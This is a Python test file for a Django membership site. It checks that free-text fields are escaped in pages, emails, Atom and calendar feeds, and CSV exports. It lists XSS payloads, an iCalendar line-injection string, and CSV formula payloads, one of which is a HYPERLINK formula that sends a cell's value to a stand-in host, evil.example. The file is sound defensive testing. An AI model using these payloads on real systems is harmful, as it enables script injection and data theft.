"""Script and formula payloads through every free-text field, into every place it is shown:
pages, emails, the Atom feed, .ics files and calendar feeds, and CSV exports.

Pages and HTML emails must show each payload as text (escaped), never as markup; the Atom feed
must stay well-formed XML with the payload as text; an .ics must parse back to the same text,
with no line of the payload becoming a property of its own; a CSV cell must never start a
formula.
"""

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from django.core import mail
from django.urls import reverse
from icalendar import Calendar

from meetings.models import TopicSuggestion
from meetings.services.registrations import registration_create
from members.services.joining import member_activate_on_verification
from surveys.services.anonymity import held_responses_release_due
from surveys.services.answering import response_submit
from surveys.services.invitations import invitations_create
from tests.factories import member_with_account
from tests.meetings.factories import MeetingFactory
from tests.surveys.factories import InvitationFactory, survey_with_questions

pytestmark = pytest.mark.django_db

SCRIPT_PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "'><iframe src=javascript:alert(1)></iframe>",
    "Line one\r\nBEGIN:VEVENT\r\nSUMMARY:Injected",
]
FORMULA_PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+2", "-3+4", "@SUM(1)"]
# What the payloads would be if written unescaped (the page's own <script src> tags aside).
DANGEROUS_MARKUP = [
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "<iframe src=",
    'href="javascript:',
]


def assert_no_live_markup(html: str, where: str):
    lowered = html.lower()
    for fragment in DANGEROUS_MARKUP:
        assert fragment not in lowered, f"{fragment!r} unescaped in {where}"


def person_with(payload: str, **extra):
    return member_with_account(
        full_name=payload[:150],
        organisation=payload[:150],
        job_title=payload[:150],
        city_region=payload[:100],
        bio=payload,
        **extra,
    )


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_member_fields_are_text_on_every_page_that_shows_them(client, payload):
    shown = person_with(payload)
    viewer = member_with_account()
    client.force_login(viewer.user)

    pages = {
        "detail": client.get(reverse("members:detail", args=[shown.pk])),
        "directory": client.get(reverse("members:directory")),
    }
    client.force_login(shown.user)
    pages["me"] = client.get(reverse("members:me"))
    pages["profile"] = client.get(reverse("members:profile_edit"))

    for where, response in pages.items():
        assert response.status_code == 200, where
        assert_no_live_markup(response.content.decode(), where)


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_meeting_text_is_escaped_in_pages_emails_ics_and_the_calendar_feed(
    client, payload, django_capture_on_commit_callbacks
):
    meeting = MeetingFactory(title=payload[:200], summary=payload, location=payload[:200])
    member = person_with(payload)
    client.force_login(member.user)

    with django_capture_on_commit_callbacks(execute=True):
        registration_create(meeting=meeting, member=member)
    detail = client.get(meeting.get_absolute_url()).content.decode()
    listing = client.get(reverse("meetings:list")).content.decode()
    ics = client.get(reverse("meetings:ics", args=[meeting.pk]))
    client.post(reverse("meetings:feed_regenerate"))
    feed = client.get(member.calendar_feed.get_absolute_url())

    assert_no_live_markup(detail, "meeting page")
    assert_no_live_markup(listing, "meeting list")
    confirmation = mail.outbox[-1]
    html = next(body for body, kind in confirmation.alternatives if kind == "text/html")
    assert_no_live_markup(html, "confirmation email")
    assert "\n" not in confirmation.subject
    for body in (ics.content, feed.content):
        calendar = Calendar.from_ical(body)
        events = list(calendar.walk("VEVENT"))
        assert len(events) == 1  # the payload's "BEGIN:VEVENT" stayed inside the text
        # Line breaks come back as "\n" (RFC 5545 has no CR in TEXT).
        expected = payload[:200].replace("\r\n", "\n")
        assert str(events[0]["SUMMARY"]) == expected
        # An X- property is read back raw: escaped, it holds no line break of its own.
        name = str(calendar["X-WR-CALNAME"])
        assert "\n" not in name and "\r" not in name


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_survey_text_is_escaped_in_the_invitation_the_form_and_the_results(
    admin_client, client, payload, settings, django_capture_on_commit_callbacks
):
    settings.SURVEY_ANONYMITY_BATCH = 1
    survey = survey_with_questions(title=payload[:200], introduction=payload)
    text_question = survey.questions.get(kind="text")
    text_question.help_text = payload[:300]
    text_question.save()
    member = person_with(payload, status="active")

    with django_capture_on_commit_callbacks(execute=True):
        invitations_create(survey=survey, members=[member])
    invitation = survey.invitations.get()
    from surveys.services.invitations import answer_url

    form = client.get(answer_url(invitation).removeprefix(settings.SITE_URL)).content.decode()
    response_submit(invitation=invitation, answers=[(text_question, None, None, payload)])
    held_responses_release_due()
    results = admin_client.get(reverse("admin:surveys_survey_results", args=[survey.pk]))

    email = mail.outbox[-1]
    html = next(body for body, kind in email.alternatives if kind == "text/html")
    assert_no_live_markup(html, "invitation email")
    assert_no_live_markup(form, "answer form")
    assert results.status_code == 200
    assert_no_live_markup(results.content.decode(), "results page")


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_topic_suggestions_are_text(client, payload):
    member = member_with_account()
    TopicSuggestion.objects.create(title=payload[:200], description=payload, suggested_by=member)
    client.force_login(member.user)

    page = client.get(reverse("meetings:suggestions"))

    assert page.status_code == 200
    assert_no_live_markup(page.content.decode(), "suggestions")


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_resources_are_text_on_their_pages_and_well_formed_in_the_atom_feed(client, payload):
    from tests.resources.factories import ResourceFactory

    author = person_with(payload)
    resource = ResourceFactory(
        title=payload[:200], summary=payload[:300], body=payload, author=author
    )
    client.force_login(member_with_account().user)

    detail = client.get(resource.get_absolute_url()).content.decode()
    listing = client.get(reverse("resources:list")).content.decode()
    feed = client.get(reverse("resources:feed")).content

    assert_no_live_markup(detail, "resource page")
    assert_no_live_markup(listing, "resource list")
    atom = ET.fromstring(feed)  # noqa: S314 -- our own feed, which must be well-formed XML
    entry_titles = [element.text for element in atom.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(payload.split("\r")[0][:50] in (title or "") for title in entry_titles)


def test_welcome_email_shows_the_name_as_text(django_capture_on_commit_callbacks):
    member = person_with(SCRIPT_PAYLOADS[1], status="prospect")

    with django_capture_on_commit_callbacks(execute=True):
        member_activate_on_verification(user=member.user)

    html = next(body for body, kind in mail.outbox[-1].alternatives if kind == "text/html")
    assert_no_live_markup(html, "welcome email")


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


def _no_formula(cells: list[str], payloads: list[str]):
    for payload in payloads:
        assert payload not in cells, f"{payload!r} written as a live cell"
        assert "'" + payload in cells, f"{payload!r} not written as text"


def test_every_csv_export_writes_formulas_as_text(admin_client, settings):
    settings.SURVEY_ANONYMITY_BATCH = 1
    members = [person_with(payload) for payload in FORMULA_PAYLOADS]
    meeting = MeetingFactory(title=FORMULA_PAYLOADS[0])
    for member in members:
        registration_create(meeting=meeting, member=member)
    survey = survey_with_questions(is_anonymous=False)
    text_question = survey.questions.get(kind="text")
    for member, payload in zip(members, FORMULA_PAYLOADS, strict=True):
        invitation = InvitationFactory(survey=survey, member=member)
        response_submit(invitation=invitation, answers=[(text_question, None, None, payload)])

    member_csv = admin_client.post(
        reverse("admin:members_member_changelist"),
        {"action": "export_csv", "_selected_action": [m.pk for m in members]},
    ).content
    attendance_csv = admin_client.post(
        reverse("admin:meetings_meeting_changelist"),
        {"action": "export_attendance", "_selected_action": [meeting.pk]},
    ).content
    results = admin_client.get(reverse("admin:surveys_survey_results_csv", args=[survey.pk]))
    results_csv = b"".join(results.streaming_content)

    _no_formula(_cells(member_csv), FORMULA_PAYLOADS)
    _no_formula(_cells(attendance_csv), FORMULA_PAYLOADS)
    _no_formula(_cells(results_csv), FORMULA_PAYLOADS)
